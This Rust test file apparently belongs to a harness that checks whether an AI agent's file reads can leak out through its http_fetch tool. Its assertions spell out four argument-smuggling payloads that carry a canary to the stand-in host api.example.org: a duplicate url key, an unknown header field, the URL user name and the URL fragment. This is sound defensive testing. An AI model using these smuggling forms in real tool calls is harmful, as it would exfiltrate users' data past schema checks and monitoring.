//! Argument smuggling's chains (`smuggle`), without a stack.

use super::chains::{self, Chain};
use super::tests::rewritten;

/// Argument smuggling, last: from the first read to the first fetch host, one chain per
/// way, each sink call's arguments the JSON text the script sends as it is: a second
/// `url` key (the same host, with the canary), an unknown field, the canary as the URL's
/// user name or in its fragment; every URL at the chain's own marker path.
#[test]
fn smuggling_chains_send_the_arguments_as_they_are() {
    let plan = chains::plan(&rewritten(), 4321, "n0", false);
    let smuggled: Vec<&Chain> = plan.iter().filter(|c| c.smuggle.is_some()).collect();
    assert_eq!(
        smuggled
            .iter()
            .map(|c| (c.n, c.smuggle.unwrap_or_default()))
            .collect::<Vec<_>>(),
        [
            (17, "duplicate"),
            (18, "unknown-field"),
            (19, "userinfo"),
            (20, "fragment")
        ]
    );
    // Then the compaction chains (`launder`), from the same read to each host, and the
    // fetch sources' (`fetch_source`).
    assert!(plan[20..22].iter().all(super::launder::is_compaction));
    assert!(plan[22..].iter().all(super::fetch_source::is));
    assert!(smuggled.iter().all(|c| c.source.tool == "read_file"
        && c.sink.entry == "api.example.org"
        && c.sink.tool == "http_fetch"
        && c.sink.lookalike.is_none()));
    let args: Vec<&str> = smuggled.iter().map(|c| c.url.as_str()).collect();
    assert_eq!(
        args,
        [
            r#"{"url":"http://api.example.org:4321/bxsmuggle-17/","url":"http://api.example.org:4321/bxsmuggle-17/?c=BXCANARY-n0-17-"}"#,
            r#"{"headers":{"X-Bx":"BXCANARY-n0-18-"},"url":"http://api.example.org:4321/bxsmuggle-18/"}"#,
            r#"{"url":"http://BXCANARY-n0-19-@api.example.org:4321/bxsmuggle-19/"}"#,
            r#"{"url":"http://api.example.org:4321/bxsmuggle-20/#c=BXCANARY-n0-20-"}"#,
        ]
    );
    // Valid JSON text each (what the fake server requires), and strictly the tool's
    // schema only where no key is doubled or added.
    for (c, strict) in smuggled.iter().zip([false, false, true, true]) {
        assert!(serde_json::from_str::<serde_json::Value>(&c.url).is_ok());
        let args = proto::tools::ToolArgs::parse("http_fetch", &c.url);
        assert_eq!(args.is_ok(), strict, "{}", c.url);
    }
    // The script sends them byte for byte, once the read's result holds the canary.
    let v: toml::Value =
        toml::from_str(&super::script::script(&plan).expect("script")).expect("toml");
    for c in &smuggled {
        let rule = v["rule"]
            .as_array()
            .expect("rules")
            .iter()
            .find(|r| r["name"].as_str() == Some(&format!("chain {} sink", c.n)))
            .expect("rule");
        assert_eq!(
            rule["match"]["tool_result_contains"].as_str(),
            Some(c.canary.as_str())
        );
        assert_eq!(
            rule["answer"]["tool_calls"][0]["arguments"].as_str(),
            Some(c.url.as_str())
        );
    }
    // Reaching the sink: the canary, or the marker path (save for the fragment, dropped
    // from the URL fetched).
    let req = |path: &str| {
        vec![format!(
            "GET {path} HTTP/1.1\r\nHost: api.example.org\r\n\r\n"
        )]
    };
    assert!(super::smuggle::reached(smuggled[1], &req("/bxsmuggle-18/")));
    assert!(!super::smuggle::reached(
        smuggled[1],
        &req("/bxsmuggle-180/")
    ));
    assert!(!super::smuggle::reached(
        smuggled[3],
        &req("/bxsmuggle-20/")
    ));
    assert!(super::smuggle::reached(
        smuggled[3],
        &req("/bxsmuggle-20/#c=BXCANARY-n0-20-")
    ));
}
